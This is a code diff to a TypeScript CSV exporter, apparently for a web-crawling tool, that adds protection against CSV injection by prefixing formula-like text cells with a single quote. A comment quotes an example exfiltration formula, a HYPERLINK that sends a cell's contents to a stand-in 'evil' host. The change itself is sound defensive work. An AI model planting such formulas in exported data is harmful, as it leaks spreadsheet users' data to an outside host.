@@ -1,19 +1,33 @@
 // RFC 4180 CSV, with one convention on top that keeps null and '' apart (the one PostgreSQL's COPY uses): an
 // unquoted empty cell is null, a quoted empty cell ("") is the empty string. Lists and any other non-string
 // value are written as JSON text, so a cell always round-trips through JSON.parse.
+//
+// Scraped text is untrusted: a cell such as `=HYPERLINK("http://evil/?x="&A1,"click")` opened in a spreadsheet
+// is a live formula (CSV injection). As OWASP advises, a text cell that starts with `=`, `+`, `-`, `@`, a tab or
+// a carriage return is written with a single quote before it, which spreadsheets show as text. `raw` keeps cells
+// as they are (for a program that reads the CSV, not a spreadsheet): `crawl-studio export --csv-raw`.
 
 const NEEDS_QUOTES = /[",\r\n]/;
+/** What a spreadsheet reads as the start of a formula (OWASP's list). */
+const FORMULA_START = /^[=+\-@\t\r]/;
 
-export function csvCell(value: unknown): string {
+export interface CsvOptions {
+  /** Keep text that starts like a formula as it is (default: prefixed with a single quote). */
+  readonly raw?: boolean;
+}
+
+export function csvCell(value: unknown, opts: CsvOptions = {}): string {
   if (value === null || value === undefined) return '';
-  const text = typeof value === 'string' ? value : JSON.stringify(value);
+  // Only text is neutralised: a number or a list is written as JSON (`-5`, `["=x"]`), which no spreadsheet runs.
+  let text = typeof value === 'string' ? value : JSON.stringify(value);
+  if (typeof value === 'string' && !opts.raw && FORMULA_START.test(text)) text = `'${text}`;
   if (text === '' || NEEDS_QUOTES.test(text) || text !== text.trim()) return `"${text.replace(/"/g, '""')}"`;
   return text;
 }
 
 /** One record, CRLF-terminated as RFC 4180 asks. */
-export function csvRow(values: readonly unknown[]): string {
-  return values.map(csvCell).join(',') + '\r\n';
+export function csvRow(values: readonly unknown[], opts: CsvOptions = {}): string {
+  return values.map((v) => csvCell(v, opts)).join(',') + '\r\n';
 }
 
 /**
